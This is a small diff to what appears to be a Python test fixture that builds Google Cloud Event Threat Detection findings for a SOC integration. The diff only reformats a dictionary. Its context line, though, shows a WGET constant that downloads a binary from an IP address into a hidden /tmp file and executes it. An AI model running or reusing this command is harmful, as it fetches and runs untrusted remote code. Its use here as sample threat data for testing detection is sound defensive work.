@@ -578,7 +578,10 @@ WGET = "wget http://80.94.95.112/x86 -O /tmp/.d; chmod +x /tmp/.d; /tmp/.d"
 
 
 def etd_finding(category: str, severity: str, resource: str, **props: Any) -> Raw:
-    finding = {"name": f"{GCP_ORG}/sources/11438672955201/findings/6a1f0c9d2e7b4c31", "resourceName": resource}
+    finding: dict[str, Any] = {
+        "name": f"{GCP_ORG}/sources/11438672955201/findings/6a1f0c9d2e7b4c31",
+        "resourceName": resource,
+    }
     finding |= {"state": "ACTIVE", "category": category, "findingClass": "THREAT", "severity": severity}
     finding |= {"eventTime": "2027-02-15T05:17:40.120Z", "sourceProperties": props}
     return {"notificationConfigName": f"{GCP_ORG}/notificationConfigs/etd-to-soc", "finding": finding}
